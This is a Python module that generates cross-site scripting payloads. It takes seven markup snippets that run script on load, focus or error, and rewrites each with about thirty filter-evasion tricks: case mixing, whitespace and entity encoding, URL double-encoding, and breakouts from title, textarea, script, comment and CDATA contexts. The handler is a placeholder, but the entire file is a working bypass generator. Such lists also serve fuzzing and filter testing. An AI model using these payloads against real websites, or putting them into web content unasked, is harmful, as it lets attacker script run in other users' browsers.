"""Payloads woven from two lists: what would run, and the ways to write it past a filter."""

from urllib.parse import quote

# What runs by itself once it stands in a page as markup.
SEEDS = [
    "<img zq src=x onerror=zq(1)>",
    "<svg zq onload=zq(1)>",
    "<script zq>zq(1)</script>",
    "<details zq open ontoggle=zq(1)>x",
    "<input zq autofocus onfocus=zq(1)>",
    "<a zq href=javascript:zq(1)>x</a>",
    "<iframe zq srcdoc='<img src=x onerror=parent.zq(1)>'></iframe>",
]


def _swapped(text):
    return text.replace("<", "\x00").replace(">", "<").replace("\x00", ">")


def _entities(text, form, end=";"):
    return "".join(f"&#{form.format(ord(char))}{end}" for char in text)


# Each rewrites a seed in a way that some filter, decoder or browser has once let through.
DISGUISES = [
    lambda seed: seed.upper().replace("ZQ(1)", "zq(1)"),
    lambda seed: "".join(c.upper() if i % 2 else c for i, c in enumerate(seed)),
    lambda seed: seed.replace(" ", "/"),
    lambda seed: seed.replace(" ", "\f"),
    lambda seed: seed.replace(" ", "\r\n"),
    lambda seed: seed.replace(" ", "\u00a0 "),
    lambda seed: seed.replace("=", " = "),
    lambda seed: seed.replace("=", "\n=\n"),
    lambda seed: seed.replace("zq(1)", "zq&lpar;1&rpar;"),
    lambda seed: seed.replace("zq(1)", "z\\u0071(1)"),
    lambda seed: seed.replace("zq(1)", "(zq)(1)"),
    lambda seed: seed.replace("zq(1)", "[1].find(zq)"),
    lambda seed: seed.replace("zq(1)", "self[`zq`]`1`"),
    lambda seed: seed.replace("zq(1)", "void zq(1)||1"),
    lambda seed: quote(seed),
    lambda seed: quote(quote(seed)),
    lambda seed: _entities(seed, "{}"),
    lambda seed: _entities(seed, "x{:x}"),
    lambda seed: _entities(seed, "{:07d}", ""),
    lambda seed: seed.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda seed: seed.replace("<", "&LT;").replace(">", "&GT;"),
    lambda seed: seed.replace("<", "＜").replace(">", "＞"),
    lambda seed: seed.replace("<", "<\x00"),
    lambda seed: seed.replace("<", "<<"),
    lambda seed: f"<!-- {seed} -->",
    lambda seed: f"--!>{seed}",
    lambda seed: f"\"'`>{seed}",
    lambda seed: f"</title></textarea></style></script></noscript>{seed}",
    lambda seed: f"]]>{seed}<![CDATA[",
    lambda seed: f"{seed[: len(seed) // 2]}<b zq>{seed[len(seed) // 2 :]}",
    lambda seed: f"[{seed}](https://zq.invalid)",
    lambda seed: f"&quot;&gt;{seed}",
    _swapped,
]
WOVEN = list(dict.fromkeys(disguise(seed) for disguise in DISGUISES for seed in SEEDS))
